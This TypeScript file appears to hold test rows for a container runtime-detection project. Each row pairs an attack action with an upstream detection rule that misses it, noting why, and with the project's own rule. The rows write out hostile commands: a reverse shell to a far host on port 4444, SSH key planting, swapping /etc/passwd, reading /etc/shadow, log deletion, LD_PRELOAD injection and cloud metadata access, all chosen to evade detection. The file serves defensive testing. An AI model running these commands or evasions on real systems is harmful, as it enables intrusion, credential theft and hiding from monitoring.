import { as, FAR, NET_ADMIN, reach, type AttackRow } from './row.ts';

const REVERSE = 'Redirect STDOUT/STDIN to Network Connection in Container';
const ON_A_CONNECTION = 'Shell on a network connection';
const PORT = 4444;
const PACKETS = 'Packet socket created in container';
const UNCONFINED = { SecurityOpt: ['seccomp=unconfined'] };

/** A shell on a socket that was no connection yet when it became input and output, under several names. */
const late = (name: string, argv: readonly string[]): AttackRow => ({
  action: `late reverse shell: ${name}`,
  upstream: REVERSE,
  file: 'stable',
  ours: ON_A_CONNECTION,
  // Not the container's first process itself, as an app's shell is none.
  does: `${reach(FAR, PORT)} && ${as('shop')} late ${FAR} ${PORT} /bin/busybox ${argv.join(' ')}; exit`,
  host: NET_ADMIN,
});

const MISSED_NAMES = 'it compares the names as passed, and not those that a link takes';

/** What goes by the names that rules have, and does the same under others. */
export const EVASION_ROWS: readonly AttackRow[] = [
  late('an applet by its path', ['busybox', '/bin/sh', '-c', 'id']),
  late('an applet of an applet', ['busybox', 'busybox', 'sh', '-c', 'id']),
  late('a login shell', ['-sh', '-c', 'id']),
  {
    action: 'preload list by a link',
    upstream: 'Create Symlink Over Sensitive Files',
    upstreamMisses: 'the file that it leads to is none of its list',
    file: 'stable',
    ours: 'Library preload changed',
    does: 'ln -s /tmp/x /etc/ld.so.preload',
  },
  {
    action: 'program by a link',
    upstream: 'Modify binary dirs',
    upstreamMisses: MISSED_NAMES,
    file: 'sandbox',
    ours: 'File moved into a system directory',
    does: 'ln -s /tmp/x /bin/hack',
  },
  {
    action: 'key by a link',
    upstream: 'Adding ssh keys to authorized_keys',
    upstreamMisses: MISSED_NAMES,
    file: 'incubating',
    ours: 'SSH authorized keys written',
    does: 'echo x > /tmp/keys && ln -s /tmp/keys /root/.ssh/authorized_keys',
  },
  {
    action: 'directory of keys moved there',
    upstream: 'Adding ssh keys to authorized_keys',
    upstreamMisses: MISSED_NAMES,
    file: 'incubating',
    ours: 'SSH authorized keys written',
    late: true,
    does: 'mkdir /tmp/k && echo x > /tmp/k/authorized_keys && mv /root/.ssh /root/.old && mv /tmp/k /root/.ssh',
  },
  {
    action: 'passwd changes places',
    upstream: 'Write below etc',
    upstreamMisses: 'nothing is opened for writing there',
    file: 'sandbox',
    ours: 'Users or their rights changed',
    late: true,
    does: `cp /etc/passwd /tmp/p && ${as('shop')} exchange /etc/passwd /tmp/p`,
  },
  {
    action: 'passwd by another root',
    upstream: 'Write below etc',
    upstreamMisses: 'nothing is opened for writing there',
    file: 'sandbox',
    ours: 'Users or their rights changed',
    late: true,
    does: 'cp /etc/passwd /tmp/p && mv /tmp/p /proc/self/root/etc/passwd',
  },
  {
    action: 'shadow moved away',
    upstream: 'Read sensitive file untrusted',
    upstreamMisses: 'it knows the file by its name',
    file: 'stable',
    ours: 'Users or their rights changed',
    late: true,
    does: 'mv /etc/shadow /tmp/s && cat /tmp/s && mv /tmp/s /etc/shadow',
  },
  {
    action: 'log removed by another root',
    upstream: 'Clear Log Activities',
    upstreamMisses: 'it is about opening a log, not about removing one',
    file: 'stable',
    ours: 'Log cleared',
    late: true,
    does: 'rm /proc/self/root/var/log/auth.log',
  },
  {
    action: 'hard link by another root',
    upstream: 'Create Hardlink Over Sensitive Files',
    file: 'stable',
    ours: 'Link made to a sensitive file',
    does: 'ln /proc/self/root/etc/shadow /tmp/copy',
  },
  ...['//tmp/x.so', '/usr/../tmp/x.so', '/dev/x.so', '$ORIGIN/x.so'].map((library): AttackRow => ({
    action: `library put first as ${library}`,
    upstream: 'Drop and execute new binary in container',
    upstreamMisses: 'a library is no program',
    file: 'stable',
    ours: 'Dropped library put into a program',
    does: `LD_PRELOAD='${library}' /bin/ls / && true`,
  })),
  {
    action: 'program below /dev',
    upstream: 'Execution from /dev/shm',
    upstreamMisses: 'it is about /dev/shm',
    file: 'stable',
    ours: 'New program dropped and run',
    does: 'cp /bin/busybox /dev/ls && /dev/ls / && true',
  },
  {
    action: 'registers of a child',
    upstream: 'PTRACE attached to process',
    file: 'stable',
    ours: 'Another process traced or changed',
    does: [as('shop'), 'regset'],
  },
  {
    action: 'memory of another process',
    upstream: 'PTRACE attached to process',
    upstreamMisses: 'the call needs no ptrace',
    file: 'stable',
    ours: 'Another process traced or changed',
    does: [as('shop'), 'readv'],
  },
  {
    action: 'packet socket by its old name',
    upstream: PACKETS,
    upstreamMisses: 'it knows the socket by its first argument',
    file: 'stable',
    ours: 'Raw network access',
    does: [as('shop'), 'old-packet'],
  },
  {
    action: 'raw socket of IP',
    upstream: PACKETS,
    upstreamMisses: 'it knows the socket by its first argument',
    file: 'stable',
    ours: 'Raw network access',
    does: [as('shop'), 'raw'],
  },
  {
    action: 'packet socket by io_uring',
    upstream: PACKETS,
    file: 'stable',
    ours: 'Raw network access',
    does: [as('shop'), 'uring-packet'],
    host: UNCONFINED,
  },
  {
    action: 'secret by io_uring without a completion',
    upstream: 'Read sensitive file untrusted',
    file: 'stable',
    ours: 'Sensitive file read',
    does: [as('shop'), 'uring-read', '/proc/self/root/etc/shadow'],
    host: UNCONFINED,
  },
  {
    action: 'EC2 metadata by an address of no kind',
    upstream: 'Contact EC2 Instance Metadata Service From Container',
    upstreamMisses: 'it leaves out sockets that are bound to no address of their own',
    file: 'incubating',
    ours: 'Cloud metadata service contacted',
    does: `ip addr add 169.254.169.254/32 dev lo && ${as('shop')} unspec 169.254.169.254 80`,
    host: NET_ADMIN,
  },
  {
    action: 'user namespace by a call of 32 bits',
    upstream: 'Change namespace privileges via unshare',
    upstreamMisses: 'it is about unshare',
    file: 'incubating',
    ours: 'Namespace made or entered',
    does: [as('shop'), 'ia32-clone3'],
    host: UNCONFINED,
  },
  {
    action: 'mounts taken as a tree',
    upstream: 'Mount Launched in Privileged Container',
    upstreamMisses: 'it knows mount by the program’s name',
    file: 'incubating',
    ours: 'Filesystem mounted in a container',
    does: [as('shop'), 'tree'],
  },
];
